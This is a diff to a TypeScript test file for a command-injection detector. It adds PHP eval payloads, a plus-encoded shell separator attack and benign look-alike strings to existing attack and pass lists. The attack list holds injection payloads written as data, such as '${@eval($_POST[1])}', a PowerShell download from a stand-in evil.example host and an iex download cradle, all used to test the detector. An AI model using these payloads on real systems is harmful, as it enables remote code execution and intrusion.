@@ -102,8 +102,13 @@ const attacks: [string, string, number][] = [
   ['if /i not errorlevel 1 goto done', 'cmdi-command-line', 0.85],
   ['Invoke-WebRequest -Uri http://evil.example/a.ps1', 'cmdi-command-line', 0.85],
   ['x;iex (New-Object Net.WebClient).DownloadString(1)', 'cmdi-separator', 0.85],
-  // PHP's backtick operator
+  // PHP's backtick operator, PHP code evaluated from a string
   ['<?=`$_GET[0]`?>', 'cmdi-substitution', 0.9],
+  ['x{${system(id)}}', 'cmdi-php-eval', 0.85],
+  ['${@eval($_POST[1])}', 'cmdi-php-eval', 0.85],
+  ['| phpversion();', 'cmdi-php-eval', 0.85],
+  // '+' for spaces, decoded once too often
+  ['a=1+&&+uname+-a', 'cmdi-separator', 0.85],
   // mail protocol commands after a line break
   ['\r\nRCPT TO:<victim@example.com>', 'cmdi-mail', 0.85],
   ['subject\r\nMAIL FROM:<x@example.com>', 'cmdi-mail', 0.85],
@@ -138,7 +143,7 @@ const benign = [
   'npm run build && npm test', 'cat README.md', 'rm -rf node_modules', 'python -m venv .venv', 'bash -c "npm run build"', 'node -e "console.log(1)"',
   'echo hi > out.txt', 'FOR /L loops are cool', 'if %1 is empty', 'Invoke-WebRequest is slow', '() => { x }', 'function() { return 1 }',
   'A4 copy paper', '\r\nData', '\nQuit smoking', 'Hello\nDATA', 'x\na1 list of things', 'Dear team,\nRETR 5 items', 'chmod +x script.sh',
-  'the /etc/hosts file', 'edit /etc/hosts with sudo', 'size: 8"x11"', 'e-mail: me@x.com', 'head -> tail', '`ls`',
+  'the /etc/hosts file', 'phpinfo() shows the config', 'Tip: phpinfo() lists modules', 'const s = `${user.name(1)}`', 'C++ & Java; more+ideas', 'edit /etc/hosts with sudo', 'size: 8"x11"', 'e-mail: me@x.com', 'head -> tail', '`ls`',
 ]
 
 test('command injection: prose, code and data pass; markdown `ls` scores low', () => {
